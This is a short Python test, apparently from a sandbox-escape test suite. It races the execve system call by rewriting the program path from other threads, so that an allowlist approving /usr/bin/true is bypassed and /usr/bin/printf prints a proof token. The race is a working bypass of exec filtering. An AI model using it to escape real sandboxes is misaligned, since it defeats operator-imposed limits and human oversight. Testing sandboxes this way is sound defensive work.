"""Changes the name of a program from other threads while the kernel reads it.

group: executing
effect: proves
read: /usr/bin
run: /usr/bin/true
"""
import threading

EXECVE = 59
name = ctypes.create_string_buffer(b"/usr/bin/true", 32)
arguments = (ctypes.c_char_p * 4)(b"x", b"%s\n", arena.proof.encode())
variables = (ctypes.c_char_p * 1)()


def race():
    done = threading.Event()

    def change():
        while not done.is_set():
            name.value = b"/usr/bin/printf"
            name.value = b"/usr/bin/true"

    threads = [threading.Thread(target=change, daemon=True) for _ in range(4)]
    for thread in threads:
        thread.start()
    libc.syscall(EXECVE, name, arguments, variables)
    os._exit(99)


for _ in range(60):
    fork(race)
